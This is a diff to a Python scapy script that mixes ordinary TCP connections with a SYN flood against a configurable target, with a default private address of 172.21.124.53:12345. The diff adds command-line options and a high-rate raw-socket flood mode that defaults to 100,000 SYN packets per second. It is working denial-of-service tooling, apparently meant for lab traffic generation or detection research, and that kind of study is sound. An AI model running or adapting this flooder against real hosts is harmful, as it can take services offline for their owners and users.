@@ -1,7 +1,11 @@
+import argparse
 import threading
 import time
 from scapy.all import IP, TCP, send, RandIP, RandShort, sr1
 
+from raw_flood import raw_syn_flood, DEFAULT_BATCH
+from handshake_engine import concurrent_normal_traffic
+
 def send_normal_traffic(target_ip, target_port, duration=140):
     start_time = time.time()
     connection_count = 0
@@ -58,15 +62,50 @@ def syn_flood(target_ip, target_port, duration=100):
         time.sleep(0.01)
     print(f"[SYN Flood] Sent {packet_count} SYN packets in {duration} seconds.")
 
-if __name__ == '__main__':
-    target_ip = "172.21.124.53"
-    target_port = 12345
+def main():
+    parser = argparse.ArgumentParser(description="Legitimate traffic plus SYN flood generator")
+    parser.add_argument('--target', default="172.21.124.53",
+                        help='Server address to connect to and flood.')
+    parser.add_argument('--port', type=int, default=12345,
+                        help='Server port.')
+    parser.add_argument('--normal_mode', choices=['scapy', 'engine'], default='scapy',
+                        help="'scapy' runs legitimate connections one at a time with sr1(); 'engine' runs "
+                             "them concurrently over one raw socket and a shared sniffer.")
+    parser.add_argument('--conn_rate', type=float, default=20.0,
+                        help='Legitimate connections started per second in engine mode.')
+    parser.add_argument('--max_sessions', type=int, default=1024,
+                        help='Concurrent legitimate connections allowed in engine mode.')
+    parser.add_argument('--iface', default=None,
+                        help='Interface the engine sniffs replies on (default: all).')
+    parser.add_argument('--flood_mode', choices=['scapy', 'raw'], default='scapy',
+                        help="'scapy' sends one packet per send() call; 'raw' patches pre-built SYNs "
+                             "and pushes them through one raw socket with sendmmsg.")
+    parser.add_argument('--rate', type=float, default=100000,
+                        help='Target SYN packets per second in raw mode.')
+    parser.add_argument('--batch', type=int, default=DEFAULT_BATCH,
+                        help='SYNs patched and sent per sendmmsg call in raw mode.')
+    args = parser.parse_args()
+
+    target_ip = args.target
+    target_port = args.port
 
-    normal_thread = threading.Thread(target=send_normal_traffic, args=(target_ip, target_port))
-    syn_thread = threading.Thread(target=syn_flood, args=(target_ip, target_port))
+    if args.normal_mode == 'engine':
+        normal_thread = threading.Thread(target=concurrent_normal_traffic, args=(target_ip, target_port),
+                                         kwargs={'rate': args.conn_rate, 'max_sessions': args.max_sessions,
+                                                 'interface': args.iface})
+    else:
+        normal_thread = threading.Thread(target=send_normal_traffic, args=(target_ip, target_port))
+    if args.flood_mode == 'raw':
+        syn_thread = threading.Thread(target=raw_syn_flood, args=(target_ip, target_port),
+                                      kwargs={'rate': args.rate, 'batch_size': args.batch})
+    else:
+        syn_thread = threading.Thread(target=syn_flood, args=(target_ip, target_port))
     
     normal_thread.start()
     syn_thread.start()
     
     normal_thread.join()
     syn_thread.join()
+
+if __name__ == '__main__':
+    main()